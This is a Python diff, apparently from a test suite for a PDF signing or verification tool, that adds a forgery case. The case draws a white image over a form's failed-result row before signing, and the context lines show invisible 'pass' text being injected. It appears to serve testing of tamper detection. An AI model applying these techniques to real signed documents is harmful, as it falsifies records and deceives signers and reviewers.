@@ -162,3 +162,28 @@ def invisible_text_added_before_signing(forms: Any) -> bytes:
         data = b"q\n" + page["/Contents"].data + f"\nQ q BT 3 Tr /Fx 7 Tf {x1:.2f} {y1 + 2:.2f} Td (pass) Tj ET Q".encode()
         page[pdf_name("/Contents")] = w.add_object(generic.StreamObject(stream_data=data))
     return signed_by_both_raw(forms, forge.update(forms.unsigned, change))
+
+
+@attack("shadow", "pictures, but the form has 1 evidence photos")
+def picture_laid_over_the_result_before_signing(forms: Any) -> bytes:
+    """A white picture drawn over the failed row inside the page's one content stream: the text
+    underneath is still there for text extraction, but a reader shows the picture."""
+    page_index, box = fail_box(forms)
+
+    def change(w: Any) -> None:
+        page = forge.page(w, page_index)
+        resources = page["/Resources"]
+        xobjects = resources["/XObject"]
+        xobjects[pdf_name("/Patch")] = w.add_object(generic.StreamObject({
+            pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Image"),
+            pdf_name("/Width"): generic.NumberObject(1), pdf_name("/Height"): generic.NumberObject(1),
+            pdf_name("/ColorSpace"): pdf_name("/DeviceRGB"), pdf_name("/BitsPerComponent"): generic.NumberObject(8),
+        }, stream_data=b"\xff\xff\xff"))
+        for holder in (xobjects, resources):
+            if getattr(holder, "container_ref", None) is not None:
+                w.update_container(holder)
+        x1, y1, x2, y2 = box
+        data = (b"q\n" + page["/Contents"].data
+                + f"\nQ q {x2 - x1 + 2:.2f} 0 0 {y2 - y1 + 2:.2f} {x1 - 1:.2f} {y1 - 1:.2f} cm /Patch Do Q".encode())
+        page[pdf_name("/Contents")] = w.add_object(generic.StreamObject(stream_data=data))
+    return signed_by_both_raw(forms, forge.update(forms.unsigned, change))
